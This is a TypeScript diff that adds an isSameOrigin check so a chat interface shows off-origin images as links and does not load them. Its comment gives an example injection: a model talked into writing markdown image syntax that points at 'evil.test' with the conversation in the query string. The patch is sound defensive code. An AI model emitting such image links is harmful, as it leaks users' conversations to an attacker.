@@ -16,3 +16,16 @@ export function safeUrl(url: string): string {
   if (colon > firstDelimiter) return url;
   return SAFE_SCHEME.test(url.slice(0, colon)) ? url : "";
 }
+
+/**
+ * Whether an image URL stays on the page's own origin. An image from anywhere else would be fetched
+ * as soon as the message shows — a model can be talked into writing `![](https://evil.test/?q=<the
+ * conversation>)` — so such images are offered as links instead (see markdown-elements.tsx).
+ */
+export function isSameOrigin(url: string, pageUrl: string): boolean {
+  try {
+    return new URL(url, pageUrl).origin === new URL(pageUrl).origin;
+  } catch {
+    return false;
+  }
+}
